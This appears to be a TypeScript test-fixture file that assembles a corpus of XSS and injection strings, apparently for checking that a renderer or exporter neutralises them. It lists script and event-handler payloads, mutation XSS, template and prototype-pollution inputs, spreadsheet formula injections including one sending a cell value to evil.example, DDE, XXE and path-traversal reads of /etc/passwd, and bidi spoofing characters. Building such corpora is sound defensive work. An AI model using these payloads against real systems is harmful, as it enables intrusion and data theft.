import { hostileTexts } from './hostile'

/** Known ways to smuggle a program, a formula, an address or a direction into a text. Each that runs sets `window.hacked`. */
const scripts = [
  '<script>window.hacked=1</script>',
  '<SCRIPT SRC="data:text/javascript,window.hacked=1"></SCRIPT>',
  '<scr<script>ipt>window.hacked=1</scr</script>ipt>',
  '<script/x>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><script href="data:,window.hacked=1"/></svg>',
  '<script type="module">window.hacked=1</script>',
  '</textarea><script>window.hacked=1</script>',
  '</title><script>window.hacked=1</script>',
  '</style><script>window.hacked=1</script>',
  '</noscript><script>window.hacked=1</script>',
  '<!--><script>window.hacked=1</script>-->',
  '<![CDATA[<script>window.hacked=1</script>]]>',
]

const handlers = [
  '<img src=x onerror=window.hacked=1>',
  '<img src="x" onerror="window.hacked=1"',
  '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
  '<img/src/onerror=window.hacked=1>',
  '<image href=x onerror=window.hacked=1>',
  '<svg onload=window.hacked=1>',
  '<svg/onload=window.hacked=1//',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:window.hacked=1>',
  '<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='window.hacked=1'/>#x\">",
  '<body onload=window.hacked=1>',
  '<body onpageshow=window.hacked=1>',
  '<details open ontoggle=window.hacked=1>',
  '<input autofocus onfocus=window.hacked=1>',
  '<select autofocus onfocus=window.hacked=1>',
  '<video><source onerror=window.hacked=1></video>',
  '<audio src=x onerror=window.hacked=1>',
  '<marquee onstart=window.hacked=1>x</marquee>',
  '<div style="animation:x 1s" onanimationstart=window.hacked=1>x</div>',
  '<p onmouseover=window.hacked=1 style=position:fixed;inset:0>x</p>',
  '<x contenteditable onblur=window.hacked=1>x</x>',
]

const frames = [
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<object data="javascript:window.hacked=1"></object>',
  '<embed src="data:text/html,<script>top.hacked=1</script>">',
  '<form action="javascript:window.hacked=1"><button autofocus>x</button></form>',
  '<isindex action=javascript:window.hacked=1>',
  '<base href="javascript:/a/+window.hacked=1//">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.hacked=1">',
  '<link rel=stylesheet href="data:,*{background:url(javascript:window.hacked=1)}">',
  '<template shadowrootmode=open><img src=x onerror=window.hacked=1></template>',
  '<a href="javascript:window.hacked=1" id=clickme>x</a>',
  '<a href="java&#x0A;script:window.hacked=1">x</a>',
]

const breakouts = [
  '"><img src=x onerror=window.hacked=1>',
  "'><img src=x onerror=window.hacked=1>",
  '" onmouseover="window.hacked=1" x="',
  "' autofocus onfocus='window.hacked=1' x='",
  '`onerror=window.hacked=1 x=`',
  '--><img src=x onerror=window.hacked=1>',
  ']]><img src=x onerror="window.hacked=1">',
  '"];window.hacked=1;//',
  '\\";window.hacked=1;//',
  "';window.hacked=1;'",
  '*/window.hacked=1/*',
  '</svg><img src=x onerror=window.hacked=1>',
]

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=window.hacked=1>">',
  '<math><mi xlink:href="data:x,<script>window.hacked=1</script>">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
  '<listing>&lt;img src=x onerror=window.hacked=1&gt;</listing>',
  '<xmp><img src=x onerror=window.hacked=1></xmp>',
  '&lt;img src=x onerror=window.hacked=1&gt;',
  '&#60;script&#62;window.hacked=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.hacked=1%3C/script%3E',
  '\uFF1Cscript\uFF1Ewindow.hacked=1\uFF1C/script\uFF1E',
  '+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-',
]

const templates = [
  '{{constructor.constructor("window.hacked=1")()}}',
  '{{count}} {{number}} $t(frame:home)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types.
  '${window.hacked=1}',
  '#{window.hacked=1}',
  '<%= window.hacked=1 %>',
  '[x](javascript:window.hacked=1) ![x](x "onerror=window.hacked=1")',
  'expression(window.hacked=1)',
  '@import "javascript:window.hacked=1"; } * { background: url(javascript:window.hacked=1)',
  '__proto__',
  'constructor',
  '{"__proto__": {"hacked": 1}}',
]

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=WEBSERVICE("https://evil.example/")',
  '_x003C_script_x003E_',
]

const documents = [
  ']]></w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>',
  '{ INCLUDETEXT "file:///etc/passwd" }',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&e; &xxe; &#0; &#x1F;',
  ') /JavaScript (window.hacked=1) /S /JavaScript',
  ') >> endobj 1 0 obj << /OpenAction << /S /Launch /F (calc) >> >>',
  '(\\) Tj ET Q q BT',
  '<?xml-stylesheet href="javascript:window.hacked=1"?>',
  '../../../etc/passwd',
  'CON\\..\\..\\x.exe',
]

const signs = [
  'abc\u202Efdp.exe',
  '\u2066\u2067\u2068 not closed',
  '\u0000\u0008\u000B\u001F',
  '\u001B[2J\u001B]0;hacked\u0007\u001B[31m',
  '\u009B31m',
  '\uFFFE\uFFFF \u{1F3F4}\u{E0067}\u{E007F}',
  '\u2028\u2029',
  `Z${'\u0301\u0316'.repeat(60)}`,
  '\uFEFF\u200B\u200D\u00AD',
]

/** Every one of them; each is well-formed Unicode and fits into a line. */
export const xssCorpus: readonly string[] = [
  ...new Set([
    ...hostileTexts.map((text) => text.toWellFormed()),
    ...scripts,
    ...handlers,
    ...frames,
    ...breakouts,
    ...mutations,
    ...templates,
    ...formulas,
    ...documents,
    ...signs,
  ]),
]

/** Of `maximumLine`, with what stands around it. */
const room = 900

function linesOf(texts: readonly string[]): readonly string[] {
  const lines: string[] = []
  let line = ''
  for (const text of texts) {
    if (line.length + text.length > room) {
      lines.push(line)
      line = ''
    }
    line += ` ${text}`
  }
  return [...lines, line]
}

/** The corpus in as few lines as hold it: for fields of which an assessment has one. */
export const xssLines: readonly string[] = linesOf(xssCorpus)
